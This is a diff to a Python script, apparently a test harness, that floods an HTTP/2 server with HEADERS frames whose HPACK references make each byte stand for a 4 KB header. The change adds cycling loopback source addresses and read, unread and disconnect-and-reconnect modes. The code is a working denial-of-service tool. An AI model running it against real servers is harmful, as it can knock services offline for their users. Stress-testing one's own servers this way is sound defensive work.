@@ -1,12 +1,15 @@
 """Calls whose headers refer to each other (HPACK): a byte stands for 4 KB that was sent once.
 
-As a program, in a process of its own: `header_bombs.py HOST:PORT CONNECTIONS SECONDS READS [CA]`. With CA (a file, PEM)
-they come over TLS. Prints how many headers were sent, and how often the server closed a connection.
+As a program, in a process of its own: `header_bombs.py HOST:PORT CONNECTIONS SECONDS ADDRESSES WAY [CA]`. They come
+from 127.0.0.1 to 127.0.0.ADDRESSES. WAY: "unread", "reads" the answers, or "leaves" after `FEW` frames, to connect
+again.
+With CA (a file, PEM) they come over TLS. Prints how many frames were sent, and how many connections have ended.
 """
 
 from __future__ import annotations
 
 import contextlib
+import itertools
 import os
 import select
 import socket
@@ -25,17 +28,30 @@ _HEADERS, _END_HEADERS = 1, 4
 _REMEMBERED = b"\x40" + literal("x") + literal("v" * 4_000)
 _IT = b"\xbe"
 _PAUSE = 0.02  # between two connections of one thread
+FEW, _MANY = 3, 512  # frames
+
+
+def _frames(count: int) -> bytes:
+    blocks = [headers(PUSH) + (b"" if number else _REMEMBERED) for number in range(count)]
+    padded = [block + _IT * (FRAME_BYTES - len(block)) for block in blocks]
+    return preface() + b"".join(
+        frame(_HEADERS, _END_HEADERS, 2 * number + 1, block) for number, block in enumerate(padded)
+    )
 
 
 class Bombs:
     """What the threads of one attack count."""
 
-    def __init__(self, address: str, seconds: float, reads: bool, tls: ssl.SSLContext | None = None) -> None:
-        """`reads`: whether answers are read."""
+    def __init__(
+        self, address: str, seconds: float, addresses: int, way: str, tls: ssl.SSLContext | None = None
+    ) -> None:
         host, _, port = address.rpartition(":")
         self._target = host, int(port)
         self._until = time.monotonic() + seconds
-        self._reads = reads
+        self._sources = itertools.cycle(f"127.0.0.{number + 1}" for number in range(addresses))
+        self._reads = way == "reads"
+        self._leaves = way == "leaves"
+        self._all = _frames(FEW if self._leaves else _MANY)
         self._tls = tls
         self.sent = self.closed = 0
 
@@ -56,25 +72,21 @@ class Bombs:
 
     def _attack(self) -> None:
         with contextlib.ExitStack() as closing:
-            sock = closing.enter_context(socket.create_connection(self._target, 10))
+            source = next(self._sources), 0
+            sock = closing.enter_context(socket.create_connection(self._target, 2, source_address=source))
             if self._tls is not None:
                 sock = closing.enter_context(self._tls.wrap_socket(sock, server_hostname=self._target[0]))
             sock.setblocking(False)
-            self._send(sock, preface())
-            stream, remembered = 1, _REMEMBERED
-            while time.monotonic() < self._until:
-                block = headers(PUSH) + remembered
-                block += _IT * (FRAME_BYTES - len(block))
-                self._send(sock, frame(_HEADERS, _END_HEADERS, stream, block))
-                stream, remembered = stream + 2, b""
-                self.sent += 1
+            self._send(sock, self._all)
+            select.select([sock], [], [], max(0.0, self._until - time.monotonic()))
 
     def _send(self, sock: socket.socket, data: bytes) -> None:
         rest = memoryview(data)
         while rest and time.monotonic() < self._until:
             select.select([sock] if self._reads else [], [sock], [], 0.1)
             with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
-                rest = rest[sock.send(rest) :]
+                count = sock.send(rest)
+                self.sent, rest = self.sent + count, rest[count:]
             if self._reads:
                 with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                     if not sock.recv(2**16):
@@ -83,10 +95,10 @@ class Bombs:
 
 if __name__ == "__main__":
     os.nice(10)  # it stands for other machines, and is not to take this one's processors from honest clients
-    target, many, lasting, reading, *ca = sys.argv[1:]
+    target, many, lasting, spread, how, *ca = sys.argv[1:]
     context = ssl.create_default_context(cafile=ca[0]) if ca else None
     if context is not None:
         context.set_alpn_protocols(["h2"])
-    bombs = Bombs(target, float(lasting), reading == "reads", context)
+    bombs = Bombs(target, float(lasting), int(spread), how, context)
     bombs.run(int(many))
-    print(bombs.sent, bombs.closed, flush=True)
+    print(bombs.sent // FRAME_BYTES, bombs.closed, flush=True)
